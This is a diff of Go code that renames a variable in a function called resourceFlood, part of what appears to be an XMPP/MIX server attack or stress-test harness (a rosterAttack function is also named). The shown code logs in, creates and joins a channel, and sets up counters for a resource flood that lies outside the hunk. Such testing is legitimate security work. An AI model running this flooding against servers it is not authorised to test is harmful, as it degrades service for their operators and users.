@@ -147,36 +147,36 @@ func rosterAttack(c config) error {
 func resourceFlood(c config) error {
 	// A reading client makes the caps ver known as MIX capable, creates
 	// and joins the channel.
-	real, err := login(c, c.user, "real")
+	member, err := login(c, c.user, "real")
 	if err != nil {
 		return err
 	}
-	defer real.conn.Close()
+	defer member.conn.Close()
 	body, ver := capsInfo()
 	caps := `<c xmlns="http://jabber.org/protocol/caps" hash="sha-1" node="https://example.org/probe" ver="` + ver + `"/>`
-	fmt.Fprint(real.conn, `<presence>`+caps+`</presence>`)
-	q, err := real.until("http://jabber.org/protocol/disco#info")
+	fmt.Fprint(member.conn, `<presence>`+caps+`</presence>`)
+	q, err := member.until("http://jabber.org/protocol/disco#info")
 	if err != nil {
 		return err
 	}
 	id := attrBefore(q, "id")
-	fmt.Fprintf(real.conn, `<iq type="result" id="%s" to="%s"><query xmlns="http://jabber.org/protocol/disco#info" node="https://example.org/probe#%s">%s</query></iq>`, id, c.domain, ver, body)
+	fmt.Fprintf(member.conn, `<iq type="result" id="%s" to="%s"><query xmlns="http://jabber.org/protocol/disco#info" node="https://example.org/probe#%s">%s</query></iq>`, id, c.domain, ver, body)
 	channel := "flood@" + c.mix
-	fmt.Fprintf(real.conn, `<iq type="set" id="cr" to="%s"><create xmlns="urn:xmpp:mix:core:1" channel="flood"/></iq>`, c.mix)
-	if _, err := real.until(`"cr"`); err != nil {
+	fmt.Fprintf(member.conn, `<iq type="set" id="cr" to="%s"><create xmlns="urn:xmpp:mix:core:1" channel="flood"/></iq>`, c.mix)
+	if _, err := member.until(`"cr"`); err != nil {
 		return err
 	}
 	join := `<iq type="set" id="jn"><client-join xmlns="urn:xmpp:mix:pam:2" channel="` + channel + `"><join xmlns="urn:xmpp:mix:core:1"><subscribe node="urn:xmpp:mix:nodes:messages"/><nick>NICK</nick></join></client-join></iq>`
-	fmt.Fprint(real.conn, strings.ReplaceAll(join, "NICK", c.user))
-	if _, err := real.until(`"jn"`); err != nil {
+	fmt.Fprint(member.conn, strings.ReplaceAll(join, "NICK", c.user))
+	if _, err := member.until(`"jn"`); err != nil {
 		return err
 	}
-	answer, err := real.until("</iq>")
+	answer, err := member.until("</iq>")
 	if err != nil {
 		return err
 	}
 	fmt.Printf("join: %.200s\n", answer)
-	go real.drain(nil, "")
+	go member.drain(nil, "")
 
 	bound, refused := 0, 0
 	var firstErr error
